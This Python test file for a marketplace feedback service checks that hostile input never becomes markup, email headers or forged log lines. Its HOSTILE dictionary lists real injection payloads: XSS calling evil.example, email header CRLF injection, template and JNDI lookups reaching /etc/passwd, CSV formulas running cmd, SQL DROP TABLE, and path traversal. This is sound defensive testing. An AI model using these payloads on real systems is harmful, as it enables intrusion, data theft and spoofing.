"""Text that attacks whoever shows, sends or logs it, in every field that takes text, and what comes out of each.

Pages are tests/web/test_safety.py: they put text into the page as text (`textContent`), never as markup.

CSV: nothing here ever writes CSV (the API and both messages are JSON, text or HTML; docs/openapi.json says so),
and what people write comes back as they wrote it. A leading `=` is fine text; whoever exports to a spreadsheet
must quote it there, and would have to even if we had altered it.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.builders import CLIENT, FREELANCER, RATINGS
from tests.component import test_logs
from tests.component.calls import Answer, call
from tests.component.marketplace import Email, Marketplace
from tests.component.test_hostile_text import Shown
from tests.component.test_logs import Written
from tests.conftest import Tried
from tests.contract_queue import dead_letters, deliver, event
from tests.soak import SOAK

HOSTILE = {
    "header CRLF": "Eve\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>body</b>",
    "header LF": "Eve\nTo: victim@evil.example",
    "header folded": "Eve\r\n Bcc: victim@evil.example",
    "header encoded": "=?utf-8?q?Eve=0D=0ABcc:_victim@evil.example?=",
    "header percent": "Eve%0d%0aBcc:%20victim@evil.example",
    "header unicode": "Eve\u2028Bcc: victim@evil.example\u2029\x85Bcc: victim@evil.example\u560d\u560a",
    "html script": "<script>fetch('//evil.example')</script>",
    "html attribute": "\" onmouseover='alert(1)' x=\"",
    "html image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "html close": "</td></tr></table></body></html><h1>Hacked",
    "html comment": "<!-- --><![CDATA[<b>]]><!--[if mso]><b><![endif]-->",
    "html link": "<a href=javascript:alert(1)>http://evil.example/</a>",
    "html style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "html entities": "&lt;script&gt;&#60;b&#x3e;&amp;amp;",
    "template": "{{7*7}}{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s%n%x%(link)s{0}{link}\\1\\g<0>$0$&",
    "lookup": "${jndi:ldap://evil.example/a}$(id)`id`;id|id",
    "log line": 'x\n{"level":"INFO","message":"submit accepted","command":"submit"}',
    "log CR": "x\r\x1b[2K\x1b[1A2026-01-01 INFO all is well",
    "log ANSI": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
    "log null": "a\x00b\x08\x7f",
    "csv formula": '=HYPERLINK("http://evil.example","click")',
    "csv command": "=cmd|' /C calc'!A0",
    "csv plus": "+1+cmd|' /C calc'!A0",
    "csv minus": "-2+3+cmd|' /C calc'!A0",
    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv tab": "\t=1+1",
    "csv quote": '","=1+1","',
    "sql": "'; DROP TABLE feedback; --",
    "path": "../../../../etc/passwd\x00.html",
    "direction": "\u202eexe.fdp\u202c\u2066\u200f",
    "zalgo": "Z" + "\u0311\u0357" * 60,
    "invisible": "a\u200b\u200d\ufeff\u00adb",
}
ALIKE = {  # much like one of the others: in the long form only
    "header folded",
    "header percent",
    "html comment",
    "html style",
    "format",
    "lookup",
    "log CR",
    "csv plus",
    "csv minus",
    "csv tab",
    "sql",
    "zalgo",
    "invisible",
}
TRIED = {name: text for name, text in HOSTILE.items() if SOAK or name not in ALIKE}
LOG_KEYS = {"level", "location", "message", "timestamp", "service"}
MAIL_HREF = re.compile(r'(?:href|src)="([^"]*)"')

log = test_logs.written

every_text = pytest.mark.parametrize("text", TRIED.values(), ids=TRIED.keys())
every_json_text = pytest.mark.parametrize(
    "text",
    [text for text in TRIED.values() if "\x00" not in text],
    ids=[name for name, text in TRIED.items() if "\x00" not in text],
)


@every_text
def test_what_the_marketplace_tells_is_text_in_every_channel(
    empty_marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    """Title, both names, and the comment at the end of the contract."""
    shown = "".join(" " if ord(c) < 32 or 127 <= ord(c) < 160 else c for c in text).strip()
    client = {"id": CLIENT.id, "name": text, "email": CLIENT.email}
    freelancer = {"id": FREELANCER.id, "name": text, "email": FREELANCER.email}
    empty_marketplace.run(title=text, client=client, freelancer=freelancer)
    empty_marketplace.tell("end-of-contract-feedback", contract_id="c-1", comment=text)
    assert empty_marketplace.ask().status == 201
    empty_marketplace.settle()
    contract = _json(empty_marketplace.tab())["contract"]
    assert {contract["title"], contract["client"]["name"], contract["freelancer"]["name"]} == {shown}
    [listed] = _json(empty_marketplace.history())["contracts"]
    assert (listed["title"], listed["feedback"][0]["comment"]) == (shown, text.strip())
    link = _json(empty_marketplace.open(empty_marketplace.link()))
    assert (link["contract"]["title"], link["contract"]["freelancer"]["name"]) == (shown, shown)
    _safe(empty_marketplace)
    _log_lines(log(), text)
    tried("hostile texts", 4)


@every_text
def test_what_people_write_is_text_in_every_channel(
    marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    """The freelancer's message and the client's comment."""
    asked = marketplace.ask(body={"message": text}, headers={"user-agent": _one_line(text)})
    if "\x00" in text:  # sent escaped, so it is valid JSON
        assert asked.status == 201
    assert _json(asked)["message"] == text.strip()
    marketplace.settle()
    assert _json(marketplace.open(marketplace.link()))["request"]["message"] == text.strip()
    given = marketplace.give(body={"ratings": RATINGS, "comment": text})
    assert _json(given)["comment"] == text.strip()
    marketplace.settle()
    tab = _json(marketplace.tab())
    assert (tab["past_requests"][0]["message"], tab["feedback"][0]["comment"]) == (text.strip(), text.strip())
    assert _json(marketplace.history())["contracts"][0]["feedback"][0]["comment"] == text.strip()
    _safe(marketplace)
    _log_lines(log(), text)
    tried("hostile texts", 3)


@every_text
def test_what_stands_in_the_address_is_never_an_answer_or_a_line_of_the_log(
    marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    """Ids, tokens, limit and cursor."""
    marketplace.sdk.calls.clear()
    answers = [
        marketplace.tab(text),
        marketplace.ask(text),
        marketplace.give(text),
        marketplace.open(text),
        marketplace.probe(text),
        marketplace.answer(text),
        marketplace.history(text),
        marketplace.history(cursor=text),
        marketplace.history(limit=text),
        call("list-unknown-route", path=f"/{text}"),
    ]
    assert [answer.status for answer in answers] == [404] * 7 + [422] * 2 + [404]
    for answer in answers:
        _json(answer)
        assert text not in answer.text
        assert json.dumps(text)[1:-1] not in answer.text
    assert {made.operation for made in marketplace.sdk.calls} <= {"GetSecretValue"}
    _log_lines(log(), text)
    tried("hostile texts", len(answers))


@every_text
def test_an_idempotency_key_is_printable_or_refused_and_never_shown(
    marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    answer = marketplace.ask(headers={"idempotency-key": text})
    good = text.isascii() and text.isprintable() and len(text) <= 128
    assert answer.status == (201 if good else 422)
    assert text not in answer.text
    assert text not in str(marketplace.remembered())
    _json(answer)
    _log_lines(log(), text)
    tried("hostile texts", 1)


@every_text
def test_an_id_in_an_event_is_an_id_or_sets_the_event_aside(
    empty_marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    party = {"id": text, "name": "Client", "email": "client@example.com"}
    addressed = {"id": "u-client", "name": "Client", "email": f"{text}@example.com"}
    told = [
        event("contract-started", contract_id=text),
        event("contract-started", client=party),
        event("contract-started", freelancer=party),
        event("contract-started", client=addressed),
        event("contract-started", client={**addressed, "email": f"client@example.com{text}"}),
        event("contract-started", started_at=text),
        event("payment-made", payment_id=text),
        event("payment-made", contract_id=text),
        event("end-of-contract-feedback", feedback_id=text),
        json.dumps({**json.loads(event("payment-made")), "detail-type": text}),
    ]
    assert deliver(*told) == []
    letters = dead_letters()
    assert len(letters) == len(told)
    for letter in letters:
        assert letter.reason.isprintable()
        assert text not in letter.reason
    assert empty_marketplace.rows() == []
    _log_lines(log(), text)
    tried("hostile texts", len(told))


@every_json_text
def test_a_name_of_a_field_that_nobody_knows_is_not_repeated_in_the_log(
    marketplace: Marketplace,
    log: Written,
    text: str,
    tried: Tried,
) -> None:
    answer = marketplace.give(body={"ratings": {**RATINGS, text: 5}, "comment": "Fine.", text: text})
    assert answer.refusal == (422, "invalid_request")
    _json(answer)
    _log_lines(log(), text)
    tried("hostile texts", 2)


def _json(answer: Answer) -> Any:
    """What an answer says; its headers are ours, on one line each, and say it is nothing but JSON."""
    assert answer.headers["Content-Type"] in {"application/json", "application/problem+json"}
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    for name, value in answer.headers.items():
        assert re.fullmatch(r"[A-Za-z-]+", name)
        assert re.fullmatch(r"[ -~]*", value)
    return json.loads(answer.text) if answer.text else None


def _safe(marketplace: Marketplace) -> None:
    for email in marketplace.emails():
        _safe_email(email)
    for sent, dash in zip(marketplace.sdk.done("Publish"), marketplace.dash(), strict=True):
        assert dash.keys() == {
            "message_id",
            "kind",
            "recipient_id",
            "contract_id",
            "title",
            "body",
            "link",
            "occurred_at",
        }
        assert dash["link"] == "https://feedback.example.com/app/contract?id=c-1"
        assert {name: value["StringValue"] for name, value in sent["MessageAttributes"].items()} == {
            "kind": dash["kind"],
            "recipient_id": dash["recipient_id"],
        }
        assert not _steers(dash["title"] + dash["body"])


def _safe_email(email: Email) -> None:
    assert email.to in {CLIENT.email, FREELANCER.email}
    assert not _steers(email.subject)
    assert len(email.subject) <= 998
    shown = Shown(email.html)
    assert not {"script", "img", "svg", "iframe", "onerror", "onload", "onmouseover", "form"} & set(shown.tags)
    assert shown.tags.count("h1") == shown.tags.count("html") == 1
    for address in MAIL_HREF.findall(email.html):
        assert address.startswith("https://feedback.example.com/app/")
    for line in email.text.splitlines():
        assert not re.match(r"(Bcc|To|Content-Type):", line)


def _steers(text: str) -> bool:
    return bool(re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]", text))


def _log_lines(written: str, text: str) -> None:
    """Every line is one JSON object of ours, without controls, and has nothing of the text."""
    lines = written.split("\n")
    assert lines.pop() == ""
    assert lines
    for line in lines:
        assert line.isprintable()
        logged = json.loads(line)
        assert "_aws" in logged or logged.keys() >= LOG_KEYS
        for value in _values(logged):
            assert text not in value
            assert "evil.example" not in value
    for form in (text, json.dumps(text)[1:-1]):
        assert form not in written


def _values(logged: Any) -> Iterator[str]:
    match logged:
        case dict():
            for value in logged.values():
                yield from _values(value)
        case list():
            for value in logged:
                yield from _values(value)
        case str():
            yield logged


def _one_line(text: str) -> str:
    return re.sub(r"[\r\n\x00]", " ", text)
